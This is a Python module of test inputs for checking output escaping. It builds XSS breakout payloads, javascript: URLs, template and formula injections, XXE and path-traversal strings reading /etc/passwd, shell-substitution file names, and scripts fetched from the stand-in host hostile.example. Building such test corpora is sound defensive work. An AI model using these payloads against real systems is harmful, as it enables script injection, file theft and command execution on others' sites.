"""Hostile texts: what an attacker would write into a name, a summary, a number, hoping that some page runs it.

Made, not listed: every way out of a context (an attribute, a script block, CDATA …) with everything that
could act once outside, and the special signs of each format that our content flows into. If one runs,
`window.ran` is set or the host of `ELSEWHERE` is asked.
"""

from __future__ import annotations

from itertools import product

ELSEWHERE = "hostile.example"

WAYS_OUT = (
    *("", '">', "'>", "`>", "-->", "]]>", "*/}", "</title>", "</style>", "</script>", "</textarea>", "</noscript>"),
    *("</template>", "</svg>", "</math>", '"}</script>', "\\'});", "--!>", "<!--", "<![CDATA[", "</p></main>"),
)
"""What ends an element, an attribute, a comment, a string or a rule."""

ACTIONS = (
    "<script>window.ran=1</script>",
    "<script src=//hostile.example/x.js></script>",
    "<img src=x onerror=window.ran=1>",
    "<svg/onload=window.ran=1>",
    "<iframe srcdoc='<script>parent.ran=1</script>'></iframe>",
    "<a href=javascript:window.ran=1 autofocus onfocus=window.ran=1>a</a>",
    "<form action=//hostile.example><input autofocus onfocus=window.ran=1>",
    "<base href=//hostile.example/>",
    "<meta http-equiv=refresh content=0;url=//hostile.example>",
    "<link rel=stylesheet href=//hostile.example/x.css>",
    "<style>@import'//hostile.example/x.css';</style>",
    "<object data=//hostile.example/x></object>",
    "<embed src=//hostile.example/x>",
    "<video poster=//hostile.example/x.png></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.ran=1>",
    "<details open ontoggle=window.ran=1>",
)
"""What acts where markup is read."""

ATTRIBUTES = tuple(
    f"{quote}{action}{quote}"
    for quote, action in product(
        ("'", '"', "`", " "),
        (
            " onfocus=window.ran=1 autofocus tabindex=1 x=",
            " style=background:url(//hostile.example/x) x=",
            " srcset=//hostile.example/x.png x=",
            "><svg onload=window.ran=1 x=",
        ),
    )
)
"""What acts inside a tag."""

ADDRESSES = (
    *(
        "javascript:window.ran=1",
        "JaVaScRiPt:window.ran=1",
        "javascript&colon;window.ran=1",
        "&#106;avascript:window.ran=1",
    ),
    *("data:text/html,<script>parent.ran=1</script>", "vbscript:x", "//hostile.example/", "\\\\hostile.example\\"),
    *(
        "https:hostile.example",
        "../../../../etc/passwd",
        "%2e%2e%2f",
        "%00",
        "file:///etc/passwd",
        "blob:x",
        "///hostile.example",
    ),
)
"""What acts where an address is wanted."""

STRINGS = (
    *('"-(window.ran=1)-"', "'-(window.ran=1)-'", "\\u003cscript\\u003ewindow.ran=1", "${window.ran=1}", "\\", "\\\\'"),
    *("{{constructor.constructor('window.ran=1')()}}", "{{7*7}}", "{% include '/etc/passwd' %}", "{#", "<%= 7*7 %>"),
    *("{name}", "{0.__class__.__mro__}", "{", "}", "%s%s%n", "%(lang)s", "$1 $& \\1", "__proto__", "constructor"),
    *(
        "&lt;script&gt;window.ran=1&lt;/script&gt;",
        "&#60;script&#62;",
        "&amp;lt;b&amp;gt;",
        "&notanentity;",
        "&",
        "<",
        "<3",
    ),
    *(
        "]]>",
        "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]>&e;",
        "<?xml-stylesheet href='//hostile.example'?>",
    ),
)
"""What acts in a script, a template, a format string, an entity, XML."""

CELLS = (
    *('=HYPERLINK("//hostile.example","x")', "=1+1", "+1+1", "-1+1", "@SUM(1)", "=cmd|'/c calc'!A0", "＝1+1", '"=1+1'),
    *(";=1+1", ",=1+1", '",=1+1', "0=1+1", "%0A=1+1", "|calc", "DDE(x)"),
)
"""What acts in a spreadsheet."""

PAPER = (
    *(
        '#eval("1+1")',
        '#read("/etc/passwd")',
        '#image("/etc/passwd")',
        '#include "data.json"',
        "#{1+1}",
        "#set page(fill: red)",
    ),
    *(
        "`code` ``x``",
        "@label",
        "<label>",
        "$x^2$",
        "= heading",
        "// gone",
        "/* gone */",
        "*bold* _it_",
        "\\u{41}",
        "~",
        "---",
    ),
)
"""What acts in the typesetter's markup."""

CARDS = ("x;y,z:w", "END:VCARD", "X-A:1\\nEND:VCALENDAR", "BEGIN:VEVENT", "TEL:+84", ":", ";", ",")
"""What ends a line of a visiting card or a calendar."""

MARKDOWN = (
    "[a](javascript:window.ran=1)",
    "[a](<javascript:window.ran=1>)",
    "[a](JAVASCRIPT:window.ran=1 'b')",
    "![a](//hostile.example/x.png)",
    "<javascript:window.ran=1>",
    "[a]: javascript:window.ran=1",
    "[a](data:text/html;base64,PHNjcmlwdD53aW5kb3cucmFuPTE8L3NjcmlwdD4=)",
    '[a](https://vi-du.example/"onfocus="window.ran=1)',
    "[a](https://vi-du.example 'b\" onfocus=\"window.ran=1')",
    "`<img src=x onerror=window.ran=1>`",
    "# <img src=x onerror=window.ran=1>",
    "&#x3c;img src=x onerror=window.ran=1&#x3e;",
    "[a](&#x6a;avascript:window.ran=1)",
    "a|b\n-|-\n<img src=x onerror=window.ran=1>|c",
    "***bold** <b onclick=window.ran=1>",
    "[a][b]\n\n[b]: vbscript:x",
    '[a](product:"><script>window.ran=1</script>)',
)
"""What acts in a long text."""

UNICODE = (
    *(
        "＜script＞window.ran=1＜/script＞",
        "<ſcript>window.ran=1</ſcript>",
        "<ſcript/src=//hostile.example>",
        "ﬀﬁ",
        "ẞİıK",
    ),
    *("a\u0301\u0301\u0301\u0301\u0301", "\u0e33\u0e33", "🇻🇳", "Ｔranh", "‹script›", "「=1+1」", "\u2024\u2024/"),
)
"""What becomes something else when it is normalised or folded."""

TEXTS = tuple(
    dict.fromkeys(
        (
            *(out + action for out, action in product(WAYS_OUT, ACTIONS)),
            *ATTRIBUTES,
            *ADDRESSES,
            *STRINGS,
            *CELLS,
            *CARDS,
            *(text for text in MARKDOWN if "\n" not in text),
            *UNICODE,
        )
    )
)
"""All of them that fit on one line."""

FILE_NAMES = (
    *(
        "' onerror=window.ran=1 x='.png",
        "javascript&colon;window.ran=1.png",
        "{{7-7}}.png",
        "%00.png",
        "%2e%2e%2fa.png",
    ),
    *(
        "&lt;img src=x&gt;.png",
        "a#b&c=d.png",
        "a b+c&d;e.png",
        "$(id).png",
        "`id`.png",
        "=1+1.png",
        "-rf.png",
        "ảnh đẹp.png",
    ),
)
"""Names that a file can have on every system."""

INVISIBLE = (
    *(
        "\u202e",
        "\u202d",
        "\u2066",
        "\u2067",
        "\u2068",
        "\u2069",
        "\u200e",
        "\u200f",
        "\u061c",
        "\u200b",
        "\u200d",
        "\ufeff",
        "\u034f",
        "\u3164",
        "\u2800",
        "\ufe00",
        "\U000e0101",
    ),
    *("\u00ad", "\ue000", "\U000e0041", "\u180e", "\u2060"),
)
"""Signs that nobody sees: directions, joiners, separators, tags."""
